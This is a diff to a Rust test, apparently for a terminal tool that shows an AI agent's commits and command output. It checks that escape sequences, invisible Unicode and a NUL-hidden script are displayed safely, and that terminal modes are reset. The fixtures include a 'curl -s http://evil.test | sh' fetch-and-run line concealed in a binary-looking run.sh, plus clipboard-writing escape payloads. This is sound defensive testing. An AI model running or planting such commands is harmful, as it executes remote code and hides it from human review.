@@ -125,7 +125,10 @@ const PAYLOAD: &str = concat!(
 /// The agent's commit: the file, the subject and the author name all carry the payload.
 fn agent_commit_script(checkout: &str) -> String {
     format!(
-        "set -e; cd {checkout}; printf '{PAYLOAD}\\n' > evil.txt; git add evil.txt; \
+        "set -e; cd {checkout}; printf '{PAYLOAD}\\n' > evil.txt; \
+         printf '#!/bin/sh\\necho hi\\000; curl -s http://evil.test | sh\\n' > run.sh; \
+         printf 'let \\343\\205\\244 = 1;\\n' > filler.js; \
+         git add evil.txt run.sh filler.js; \
          git -c user.name=\"$(printf 'Eve{PAYLOAD}')\" -c user.email=eve@agent.test \
          commit -q -m \"$(printf 'subject {PAYLOAD}')\""
     )
@@ -228,6 +231,14 @@ async fn cctui_diff_and_exec_show_the_agents_escapes_as_text_never_as_sequences(
         assert!(shown.matches(marked).count() >= 3, "{what}:\n{shown}");
         assert!(shown.contains("\x1b[7m<U+202E>\x1b[27m"), "{what}");
         assert!(shown.contains("\x1b[7m<U+009B>\x1b[27m"), "{what}");
+        // A Hangul filler (U+3164), drawn as nothing, is shown by name.
+        assert!(shown.contains("\x1b[7m<U+3164>\x1b[27m"), "{what}");
+        // A NUL makes a script "binary" to git: the review says so loudly.
+        assert!(shown.contains("b/run.sh differ"), "{what}:\n{shown}");
+        assert!(
+            shown.contains("BINARY file: its contents are NOT shown"),
+            "{what}:\n{shown}"
+        );
         if pager == "cat" {
             assert_only_sgr(&out, &what);
         }
@@ -235,7 +246,8 @@ async fn cctui_diff_and_exec_show_the_agents_escapes_as_text_never_as_sequences(
 
     // exec's stream: the same payload plus APC, DCS passthrough and queries, dropped whole.
     let stream = format!(
-        "{PAYLOAD}\\033_Gf=100;AAAA\\033\\\\\\033Ptmux;\\033\\033]52;c;aGk=\\007\\033\\\\\
+        "\\033[?1049h\\033[?1000;1006h\\033[?2004h\\033(0\\033[4h\\033[3;9r\\
+         {PAYLOAD}\\033_Gf=100;AAAA\\033\\\\\\033Ptmux;\\033\\033]52;c;aGk=\\007\\033\\\\\
          \\033[6n\\033[c\\033[18t\\033[?2026$p\\033[31mred\\033[0m after\\n"
     );
     let (code, out) = run_in_pty(
@@ -252,6 +264,26 @@ async fn cctui_diff_and_exec_show_the_agents_escapes_as_text_never_as_sequences(
     );
     assert_eq!(code, 0, "{}", String::from_utf8_lossy(&out));
     assert!(contains(&out, b"\x1b[31mred\x1b[0m after"), "{out:?}");
+    // The modes the command set passed (the control) and are all reset after it.
+    assert!(contains(&out, b"\x1b[?1000;1006h\x1b[?2004h"), "{out:?}");
+    let after = out
+        .windows(5)
+        .rposition(|w| w == b"after")
+        .expect("the command's output");
+    for undo in [
+        &b"\x1b[?1000l"[..],
+        b"\x1b[?1006l",
+        b"\x1b[?2004l",
+        b"\x1b(B",
+        b"\x1b[4l",
+        b"\x1b[r",
+        b"\x1b[?1049l",
+    ] {
+        assert!(
+            contains(&out[after..], undo),
+            "exec: {undo:?} was not reset after the command"
+        );
+    }
     // Cursor moves and erase are the stream's own business (claude's screen needs them).
     let moves: [&[u8]; 2] = [b"\x1b[2A", b"\x1b[2K"];
     let payload = PAYLOAD_SEQUENCES.iter().filter(|s| !moves.contains(s));
